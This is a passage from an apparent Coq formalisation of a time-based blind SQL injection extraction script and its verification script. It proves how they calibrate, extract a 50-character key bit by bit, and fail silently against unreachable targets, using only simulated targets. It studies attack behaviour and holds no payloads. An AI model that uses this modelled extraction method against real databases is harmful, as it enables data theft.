    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self) key ->
  answers_key_inequalities (reset_url (ExtractionVerifier.server self))
    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self) key ->
  files w !! input_file = Some text ->
  String.length (universal_newlines text) = String.length key ->
  universal_newlines key = key ->
  exists (mismatches : list Z) (w1 w2 : World S),
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok (key, mismatches), w1) /\
    ExtractionVerifier.verify_and_correct self output_file second_output
      w1 = (Ok (key, []), w2).
Proof.
  intros Hbits Hneq Hfile Hlen Hkey.
  destruct (verify_truthful self input_file output_file text key w
              Hbits Hneq Hfile Hlen) as (w1 & Hrun1 & Hout).
  destruct (verify_truthful self output_file second_output key key w1
              Hbits Hneq Hout) as (w2 & Hrun2 & _);
    [by rewrite Hkey|].
  rewrite Hkey, differences_same in Hrun2.
  by exists (differences 1 (universal_newlines text) key), w1, w2.
Qed.

(** X11 at work: the input AC against the key AB, verified twice. *)
Lemma verification_idempotent_witness :
  exists (mismatches : list Z) (w1 w2 : World unit),
    ExtractionVerifier.verify_and_correct
      (Transport0 := noise_free "AB" 0.25 1)
      (ExtractionVerifier.__init__ "http://target" 60000000)
      "extracted_output.txt" "verified_output.txt"
      (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]}) =
    (Ok ("AB", mismatches), w1) /\
    ExtractionVerifier.verify_and_correct
      (Transport0 := noise_free "AB" 0.25 1)
      (ExtractionVerifier.__init__ "http://target" 60000000)
      "verified_output.txt" "verified_again.txt" w1 =
    (Ok ("AB", []), w2).
Proof.
  apply (verification_idempotent (Transport0 := noise_free "AB" 0.25 1)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "extracted_output.txt" "verified_output.txt" "verified_again.txt"
    "AC" "AB" (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]})).
  - apply noise_free_answers_key_bits; [reflexivity|discriminate].
  - apply noise_free_answers_key_inequalities; reflexivity.
  - reflexivity.
  - reflexivity.
  - reflexivity.
Defined.

(** ** Verification that cannot check *)

Section VerificationUnchecked.
Context {S : Type} `{!Transport S}.
Variables (self : ExtractionVerifier.t) (output_file extracted : string).
Hypothesis unchecked :
  never_above (reset_url (ExtractionVerifier.server self))
    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self).

Lemma verify_body_unchecked (corrected : string) (mismatches : list Z)
    (position : Z) (expected : ascii) (w : World S) :
  getitem extracted (position - 1) = Ok expected ->
  exists w' : World S,
    ExtractionVerifier.verify_body self output_file extracted
      (corrected, mismatches) position w =
    (Ok (corrected +:+ String expected EmptyString, mismatches), w').
Proof.
  intros Hget. rewrite (verify_body_unfold _ _ _ _ _ _ _ _ Hget).
  rewrite character_matches_matching, range_one_sample.
  rewrite matching_accepts; [by eexists|].
  cbn [length]. rewrite replies_cons. constructor; [|constructor].
  apply unchecked.
Qed.

Lemma verify_loop_unchecked (rest : string) (first : nat)
    (corrected : string) (mismatches : list Z) (w : World S) :
  (forall (i : nat) (x : ascii),
      String.get i rest = Some x ->
      getitem extracted (Z.of_nat (first + i) + 1 - 1) = Ok x) ->
  exists w' : World S,
    for_fold (map (fun i => Z.of_nat i + 1)
                (seq first (String.length rest)))
      (ExtractionVerifier.verify_body self output_file extracted)
      (corrected, mismatches) w =
    (Ok (corrected +:+ rest, mismatches), w').
Proof.
  revert first corrected w.
  induction rest as [|x rest IH]; intros first corrected w Hin.
  - exists w. cbn. by rewrite append_empty_r.
  - cbn [String.length seq map for_fold]. unfold bind.
    destruct (verify_body_unchecked corrected mismatches
                (Z.of_nat first + 1) x w) as [w1 ->].
    { specialize (Hin 0%nat x eq_refl). by rewrite Nat.add_0_r in Hin. }
    destruct (IH (Datatypes.S first)
                (corrected +:+ String x EmptyString) w1) as [w2 ->].
    { intros i x' Hget. specialize (Hin (Datatypes.S i) x' Hget).
      by replace (Datatypes.S first + i)%nat
        with (first + Datatypes.S i)%nat by lia. }
    exists w2. by rewrite append_assoc, append_cons, append_empty_l.
Qed.

End VerificationUnchecked.

(** X12: verification accepts what it cannot check.  On a channel where
    no inequality question is answered above the threshold, in particular
    when every request fails, [verify_and_correct] returns the string it
    read unchanged with an empty mismatch list, and writes it to the
    output file: a target that cannot be reached looks like a string
    without errors. *)
Theorem verify_accepts_unchecked {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (input_file output_file text : string)
    (w : World S) :
  never_above (reset_url (ExtractionVerifier.server self))
    (ExtractionVerifier.delay_size self)
    (ExtractionVerifier.threshold self) ->
  files w !! input_file = Some text ->
  exists w' : World S,
    ExtractionVerifier.verify_and_correct self input_file output_file w =
    (Ok (universal_newlines text, []), w') /\
    files w' !! output_file = Some (universal_newlines text).
Proof.
  intros Hnever Hfile.
  unfold ExtractionVerifier.verify_and_correct, bind, read_file.
  rewrite Hfile. unfold len. rewrite range_positions.
  destruct (verify_loop_unchecked self output_file
              (universal_newlines text) Hnever (universal_newlines text)
              0 EmptyString [] w) as [w1 ->].
  { intros i x Hget. by apply getitem_of_get. }
  rewrite append_empty_l.
  eexists. split; [reflexivity|]. cbn [files]. apply lookup_insert_eq.
Qed.

(** X12 at work: a wrong string against a target that cannot be reached. *)
Lemma verify_accepts_unchecked_witness :
  exists w' : World unit,
    ExtractionVerifier.verify_and_correct (Transport0 := unreachable)
      (ExtractionVerifier.__init__ "http://target" 60000000)
      "extracted_output.txt" "verified_output.txt"
      (mkWorld tt [] {[ "extracted_output.txt" := "wrong" ]}) =
    (Ok ("wrong", []), w') /\
    files w' !! "verified_output.txt" = Some "wrong".
Proof.
  apply (verify_accepts_unchecked (Transport0 := unreachable)
    (ExtractionVerifier.__init__ "http://target" 60000000)
    "extracted_output.txt" "verified_output.txt" "wrong"
    (mkWorld tt [] {[ "extracted_output.txt" := "wrong" ]})).
  - intros position v s. exact I.
  - reflexivity.
Defined.

(** ** Extraction that cannot read *)

Lemma all_bits_set (c : ascii) :
  (forall bit, 0 <= bit < 8 -> Z.testbit (ord c) bit = true) ->
  c = ascii_of_N 255.
Proof.
  intros Hbits.
  pose proof (Hbits 0 ltac:(lia)) as H0.
  pose proof (Hbits 1 ltac:(lia)) as H1.
  pose proof (Hbits 2 ltac:(lia)) as H2.
  pose proof (Hbits 3 ltac:(lia)) as H3.
  pose proof (Hbits 4 ltac:(lia)) as H4.
  pose proof (Hbits 5 ltac:(lia)) as H5.
  pose proof (Hbits 6 ltac:(lia)) as H6.
  pose proof (Hbits 7 ltac:(lia)) as H7.
  clear Hbits.
  destruct c as [[] [] [] [] [] [] [] []];
    first [reflexivity | discriminate H0 | discriminate H1
          | discriminate H2 | discriminate H3 | discriminate H4
          | discriminate H5 | discriminate H6 | discriminate H7].
Qed.

Section ExtractionUnread.
Context {S : Type} `{!Transport S}.
Variables (self : BlindSQLInjection.t) (output_file : string).
Hypothesis unread :
  never_fast (reset_url (BlindSQLInjection.server self))
    (BlindSQLInjection.delay_size self)
    (BlindSQLInjection.threshold self).

Lemma extract_character_unread (position num_samples : Z) (w : World S) :
  exists w' : World S,
    BlindSQLInjection.extract_character self position num_samples w =
    (Ok (ascii_of_N 255), w').
Proof.
  rewrite extract_character_rebuilding.
  destruct (rebuilding_keeps_set_bits
              (reset_url (BlindSQLInjection.server self))
              (BlindSQLInjection.delay_size self)
              (BlindSQLInjection.threshold self) position 255)
    with (num_samples := num_samples) (w := w)
    as (c & w' & -> & Hbits).
  { intros s bit _ _. apply unread. }
  exists w'. f_equal. f_equal. apply all_bits_set.
  intros bit Hbit. apply Hbits; [exact Hbit|].
  assert (Hcase : bit = 0 \/ bit = 1 \/ bit = 2 \/ bit = 3 \/
                  bit = 4 \/ bit = 5 \/ bit = 6 \/ bit = 7) by lia.
  by destruct Hcase as [->|[->|[->|[->|[->|[->|[->| ->]]]]]]].
Qed.

Lemma extract_string_body_unread (result : string) (position : Z)
    (w : World S) :
  exists w' : World S,
    BlindSQLInjection.extract_string_body self output_file result
      position w =
    (Ok (result +:+ String (ascii_of_N 255) EmptyString), w').
Proof.
  unfold BlindSQLInjection.extract_string_body, bind.
  destruct (extract_character_unread position 1 w) as [w1 ->].
  replace (bool_decide (ascii_of_N 255 ∉ BlindSQLInjection.VALID_CHARS))
    with true by (by vm_compute).
  destruct (extract_character_unread position 7 w1) as [w2 ->].
  unfold write_file, ret. destruct (position mod 25 =? 0); by eexists.
Qed.

Lemma extract_loop_unread (xs : list Z) (result : string) (w : World S) :
  exists w' : World S,
    for_fold xs (BlindSQLInjection.extract_string_body self output_file)
      result w = (Ok (result +:+ all_ones (length xs)), w').
Proof.
  revert result w. induction xs as [|x xs IH]; intros result w.
  - exists w. cbn. by rewrite append_empty_r.
  - cbn [for_fold]. unfold bind.
    destruct (extract_string_body_unread result x w) as [w1 ->].
    destruct (IH (result +:+ String (ascii_of_N 255) EmptyString) w1)
      as [w2 ->].
    exists w2. rewrite append_assoc. reflexivity.
Qed.

End ExtractionUnread.

(** X13: extraction that cannot read returns ones.  On a channel where no
    bit question is ever answered fast, in particular when every request
    fails, [extract_string] does not fail: it returns [max_chars] times the
    character of code 255 and writes that to the output file. *)
Theorem extract_string_unread {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (max_chars : Z) (output_file : string)
    (w : World S) :
  never_fast (reset_url (BlindSQLInjection.server self))
    (BlindSQLInjection.delay_size self)
    (BlindSQLInjection.threshold self) ->
  exists w' : World S,
    BlindSQLInjection.extract_string self max_chars output_file w =
    (Ok (all_ones (Z.to_nat max_chars)), w') /\
    files w' !! output_file = Some (all_ones (Z.to_nat max_chars)).
Proof.
  intros Hnever.
  unfold BlindSQLInjection.extract_string, bind.
  destruct (extract_loop_unread self output_file Hnever
              (range 1 (max_chars + 1) 1) EmptyString w) as [w1 ->].
  rewrite append_empty_l.
  replace (length (range 1 (max_chars + 1) 1)) with (Z.to_nat max_chars).
  - eexists. split; [reflexivity|]. cbn [files]. apply lookup_insert_eq.
  - replace (max_chars + 1) with (1 + max_chars) by lia.
    by rewrite range_up, length_map, length_seq.
Qed.

(** X13 at work: three positions against a target that cannot be
    reached. *)
Lemma extract_string_unread_witness :
  exists w' : World unit,
    BlindSQLInjection.extract_string (Transport0 := unreachable)
      (BlindSQLInjection.__init__ "http://target" 60000000) 3
      "extracted_output.txt" (mkWorld tt [] ∅) =
    (Ok (all_ones 3), w') /\
    files w' !! "extracted_output.txt" = Some (all_ones 3).
Proof.
  apply (extract_string_unread (Transport0 := unreachable)
    (BlindSQLInjection.__init__ "http://target" 60000000) 3
    "extracted_output.txt" (mkWorld tt [] ∅)).
  intros position bit s. reflexivity.
Defined.

(** ** The two scripts *)

Lemma universal_newlines_cons (c : ascii) (s : string) :
  universal_newlines (String c s) =
  if Ascii.eqb c CR then
    match s with
    | String c' s' =>
        if Ascii.eqb c' LF then String LF (universal_newlines s')
        else String LF (universal_newlines s)
    | EmptyString => String LF EmptyString
    end
  else String c (universal_newlines s).
Proof. reflexivity. Qed.

(** Reading a file never gives more characters than it holds. *)
Lemma universal_newlines_length (s : string) :
  (String.length (universal_newlines s) <= String.length s)%nat /\
  forall c,
    (String.length (universal_newlines (String c s)) <=
     Datatypes.S (String.length s))%nat.
Proof.
  induction s as [|c' s [IH1 IH2]].
  - split; [done|]. intros c. rewrite universal_newlines_cons.
    destruct (Ascii.eqb c CR); cbn; lia.
  - split; [apply IH2|]. intros c.
    rewrite universal_newlines_cons.
    destruct (Ascii.eqb c CR).
    + destruct (Ascii.eqb c' LF).
      * cbn [String.length]. lia.
      * cbn [String.length]. specialize (IH2 c'). lia.
    + cbn [String.length]. specialize (IH2 c'). lia.
Qed.

(** The run of the extraction script, by its two calibration
    measurements. *)
Lemma blind_main_run {S : Type} `{!Transport S} (w : World S) :
  exists (r : outcome string) (w' : World S),
    blind_sql_injection.main w = (r, w') /\
    match measurements (reset_url blind_sql_injection.TARGET_URL) (net w)
    with
    | (Some baseline, Some delayed) =>
        if Qeq_bool baseline 0
        then r = Raise ZeroDivisionError /\ files w' = files w /\
             sent w' = Calibration true :: Calibration false :: sent w
        else exists (result : string) (extraction : list injection),
            r = Ok result /\ len result = 50 /\
            files w' = <["extracted_output.txt" := result]> (files w) /\
            sent w' =
            extraction ++ Calibration true :: Calibration false :: sent w /\
            Forall
              (fun inj =>
                 exists p, 1 <= p <= 50 /\ bit_question p 60000000 inj)
              extraction /\
            (400 <= length extraction <= 3200)%nat
    | _ =>
        r = Raise TypeError /\ files w' = files w /\
        sent w' = Calibration true :: Calibration false :: sent w
    end.
Proof.
  unfold blind_sql_injection.main, bind.
  destruct (calibrate_run
              (BlindSQLInjection.__init__ blind_sql_injection.TARGET_URL
                 60000000) w)
    as (r0 & w0 & -> & Hsent & Hfiles & Hcases).
  change (BlindSQLInjection.server
            (BlindSQLInjection.__init__ blind_sql_injection.TARGET_URL
               60000000))
    with blind_sql_injection.TARGET_URL in Hcases.
  destruct (measurements (reset_url blind_sql_injection.TARGET_URL) (net w))
    as [[baseline|] [delayed|]];
    try (subst r0; eexists; eexists; by repeat split).
  destruct (Qeq_bool baseline 0).
  - subst r0. eexists; eexists. by repeat split.
  - destruct Hcases as [warning ->].
    destruct (extract_string_run
                (BlindSQLInjection.__init__ blind_sql_injection.TARGET_URL
                   60000000) 50 "extracted_output.txt" w0)
      as (result & w1 & -> & Hlen & Hfiles1 & extraction & E & F & L).
    eexists; eexists. split; [reflexivity|].
    exists result, extraction. split; [reflexivity|]. split; [exact Hlen|].
    cbn [ret]. split; [by rewrite Hfiles1, Hfiles|].
    split; [by rewrite E, Hsent|]. split; [exact F|].
    change (Z.to_nat 50) with 50%nat in L. lia.
Qed.

(** X14: the extraction script calibrates first.  On any channel the
    first two requests of [main] are the calibration requests, the false
    condition and then the true one.  When one of them fails it stops with
    a [TypeError], and on a zero baseline with a [ZeroDivisionError], in
    both cases without another request and with the files as they were.
    Otherwise the extraction follows: between 400 and 3200 requests, all of
    them bit questions about the positions 1 to 50, sent after the two
    calibration requests; [main] returns 50 characters and, of the files,
    changes only [extracted_output.txt], which holds them. *)
Theorem main_extracts_after_calibration {S : Type} `{!Transport S}
    (w : World S) :
  exists (r : outcome string) (w' : World S),
    blind_sql_injection.main w = (r, w') /\
    match measurements (reset_url blind_sql_injection.TARGET_URL) (net w)
    with
    | (Some baseline, Some delayed) =>
        if Qeq_bool baseline 0
        then r = Raise ZeroDivisionError /\ files w' = files w /\
             sent w' = Calibration true :: Calibration false :: sent w
        else exists (result : string) (extraction : list injection),
            r = Ok result /\ len result = 50 /\
            files w' = <["extracted_output.txt" := result]> (files w) /\
            sent w' =
            extraction ++ Calibration true :: Calibration false :: sent w /\
            Forall
              (fun inj =>
                 exists p, 1 <= p <= 50 /\ bit_question p 60000000 inj)
              extraction /\
            (400 <= length extraction <= 3200)%nat
    | _ =>
        r = Raise TypeError /\ files w' = files w /\
        sent w' = Calibration true :: Calibration false :: sent w
    end.
Proof. apply blind_main_run. Qed.

(** X15: the verification script runs on what the extraction script
    wrote.  On any channel, after [main] of the extraction script has
    returned a string, [main] of the verification script finds its input
    file and returns; its corrected string is never longer than the
    extracted one (line endings are translated on reading), and both files
    are there afterwards. *)
Theorem scripts_compose {S : Type} `{!Transport S} (w w1 : World S)
    (result : string) :
  blind_sql_injection.main w = (Ok result, w1) ->
  exists (corrected : string) (mismatches : list Z) (w2 : World S),
    verify_extraction.main w1 = (Ok (corrected, mismatches), w2) /\
    len corrected = len (universal_newlines result) /\
    len corrected <= len result /\
    files w2 !! "extracted_output.txt" = Some result /\
    files w2 !! "verified_output.txt" = Some corrected.
Proof.
  intros Hmain.
  destruct (blind_main_run w) as (r & w1' & Hrun & Hcases).
  rewrite Hmain in Hrun. injection Hrun as <- <-.
  assert (Hfile : files w1 !! "extracted_output.txt" = Some result).
  { destruct (measurements (reset_url blind_sql_injection.TARGET_URL)
                (net w)) as [[baseline|] [delayed|]];
      try (by destruct Hcases as [Hr _]).
    destruct (Qeq_bool baseline 0); [by destruct Hcases as [Hr _]|].
    destruct Hcases as (result' & extraction & Hr & _ & -> & _).
    injection Hr as ->. apply lookup_insert_eq. }
  unfold verify_extraction.main, bind.
  destruct (verify_and_correct_run
              (ExtractionVerifier.__init__ verify_extraction.TARGET_URL
                 60000000)
              "extracted_output.txt" "verified_output.txt" result w1 Hfile)
    as (corrected & mismatches & w2 & -> & Hlen & Hfiles & _).
  exists corrected, mismatches, w2. split; [reflexivity|].
  split; [exact Hlen|]. split.
  { rewrite Hlen. unfold len.
    destruct (universal_newlines_length result) as [Hle _]. lia. }
  rewrite Hfiles. split.
  - by rewrite lookup_insert_ne.
  - apply lookup_insert_eq.
Qed.

(** X15 at work: both scripts against a target that answers every request
    after a second. *)
Lemma scripts_compose_witness :
  exists (corrected : string) (mismatches : list Z) (w2 : World unit),
    verify_extraction.main (Transport0 := constant_time 1)
      (snd (blind_sql_injection.main (Transport0 := constant_time 1)
              (mkWorld tt [] ∅))) =
    (Ok (corrected, mismatches), w2) /\
    files w2 !! "verified_output.txt" = Some corrected.
Proof.
  destruct (scripts_compose (Transport0 := constant_time 1)
    (mkWorld tt [] ∅)
    (snd (blind_sql_injection.main (Transport0 := constant_time 1)
            (mkWorld tt [] ∅)))
    (all_ones 50))
    as (corrected & mismatches & w2 & Hrun & _ & _ & _ & Hfile).
  { vm_compute. reflexivity. }
  exists corrected, mismatches, w2. split; [exact Hrun|exact Hfile].
Defined.

(** X16: the two scripts over a noise-free channel.  When the calibration
    requests are answered (with a baseline that is not zero) and the
    channel answers the bit and the inequality questions by a key of 50
    characters without carriage return, [main] of the extraction script
    returns the key and [main] of the verification script then confirms
    it: the same string, no mismatch, in [verified_output.txt]. *)
Theorem scripts_recover_key {S : Type} `{!Transport S} (w : World S)
    (key : string) (baseline delayed : Q) :
  measurements (reset_url blind_sql_injection.TARGET_URL) (net w) =
  (Some baseline, Some delayed) ->
  Qeq_bool baseline 0 = false ->
  answers_key_bits (reset_url blind_sql_injection.TARGET_URL) 60000000
    float_0_42 key ->
  answers_key_inequalities (reset_url verify_extraction.TARGET_URL)
    60000000 float_0_42 key ->
  String.length key = 50%nat ->
  universal_newlines key = key ->
  exists w1 w2 : World S,
    blind_sql_injection.main w = (Ok key, w1) /\
    verify_extraction.main w1 = (Ok (key, []), w2) /\
    files w2 !! "verified_output.txt" = Some key.
Proof.
  intros Hmeasured Hbaseline Hbits Hneq Hlen Hkey.
  unfold blind_sql_injection.main, bind.
  destruct (calibrate_run
              (BlindSQLInjection.__init__ blind_sql_injection.TARGET_URL
                 60000000) w)
    as (r0 & w0 & -> & _ & _ & Hcases).
  change (BlindSQLInjection.server
            (BlindSQLInjection.__init__ blind_sql_injection.TARGET_URL
               60000000))
    with blind_sql_injection.TARGET_URL in Hcases.
  rewrite Hmeasured, Hbaseline in Hcases. destruct Hcases as [warning ->].
  destruct (extract_string_truthful
              (BlindSQLInjection.__init__ blind_sql_injection.TARGET_URL
                 60000000) "extracted_output.txt" key w0 Hbits)
    as (w1 & Hrun & Hfiles).
  unfold len in Hrun. rewrite Hlen in Hrun.
  change (Z.of_nat 50) with 50 in Hrun. rewrite Hrun.
  exists w1. cbn [ret].
  unfold verify_extraction.main, bind.
  destruct (verify_truthful
              (ExtractionVerifier.__init__ verify_extraction.TARGET_URL
                 60000000)
              "extracted_output.txt" "verified_output.txt" key key w1)
    as (w2 & Hrun2 & Hout);
    [exact Hbits|exact Hneq| |by rewrite Hkey|].
  { rewrite Hfiles. apply lookup_insert_eq. }
  rewrite Hkey, differences_same in Hrun2. rewrite Hrun2.
  exists w2. by repeat split.
Qed.

(** X16 at work: the key of fifty letters A behind the simulated target. *)
Lemma scripts_recover_key_witness :
  exists w1 w2 : World unit,
    blind_sql_injection.main (Transport0 := noise_free fifty_As 0.25 1)
      (mkWorld tt [] ∅) = (Ok fifty_As, w1) /\
    verify_extraction.main (Transport0 := noise_free fifty_As 0.25 1) w1 =
    (Ok (fifty_As, []), w2) /\
    files w2 !! "verified_output.txt" = Some fifty_As.
Proof.
  apply (scripts_recover_key (Transport0 := noise_free fifty_As 0.25 1)
    (mkWorld tt [] ∅) fifty_As 0.25 1).
  - reflexivity.
  - reflexivity.
  - apply noise_free_answers_key_bits; [reflexivity|discriminate].
  - apply noise_free_answers_key_inequalities; reflexivity.
  - reflexivity.
  - reflexivity.
Defined.

(** ** What is on disk when the extraction is interrupted *)



(** ** What is on disk when the verification is interrupted *)


